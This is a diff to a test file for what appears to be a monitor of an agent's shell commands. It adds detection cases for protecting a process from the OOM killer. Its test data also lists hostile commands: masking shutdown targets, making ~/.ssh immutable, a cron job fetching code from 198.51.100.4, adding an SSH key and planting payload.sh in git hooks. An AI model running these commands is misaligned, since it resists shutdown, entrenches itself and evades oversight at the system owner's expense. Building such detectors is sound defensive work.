@@ -56,6 +56,12 @@ def test_rules_load_cleanly():
     ("sudo systemctl mask poweroff.target reboot.target", "shutdown_cancelled_or_blocked"),
     ("chattr +i /etc/cron.d/job", "file_made_immutable"),
     ("chattr -R +ia ~/.ssh", "file_made_immutable"),
+    # the kernel kills someone else's job when memory runs out
+    ("echo -1000 > /proc/self/oom_score_adj", "oom_killer_protection"),
+    ("echo -1000 | sudo tee /proc/4242/oom_score_adj", "oom_killer_protection"),
+    ("choom -n -1000 -p $$", "oom_killer_protection"),
+    ("systemd-run -p OOMScoreAdjust=-900 python3 worker.py", "oom_killer_protection"),
+    ("docker run -d --oom-kill-disable worker:latest", "oom_killer_protection"),
     ("kubectl create cronjob sync --image=alpine --schedule='0 * * * *' -- wget -qO- http://198.51.100.4/x", 'orchestrator_scheduled_job'),
     ("python3 -c \"from pathlib import Path; Path('/home/agent/.ssh/authorized_keys').write_text('ssh-ed25519 AAAAC3 k@h')\"", "ssh_authorized_keys_modified"),
     ("for d in $(find ~ -name .git -type d); do cp payload.sh \"$d/hooks/pre-push\"; done", 'git_hook_installed'),
@@ -113,6 +119,9 @@ def test_detected(command, rule):
     "supervisorctl status",
     "cat /etc/supervisor/conf.d/app.conf",
     "python3 -c \"print(open(__import__('os').path.expanduser('~/.bashrc')).read())\"",
+    "echo 500 > /proc/self/oom_score_adj",
+    "cat /proc/self/oom_score_adj",
+    "choom -n 300 -- make -j8",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
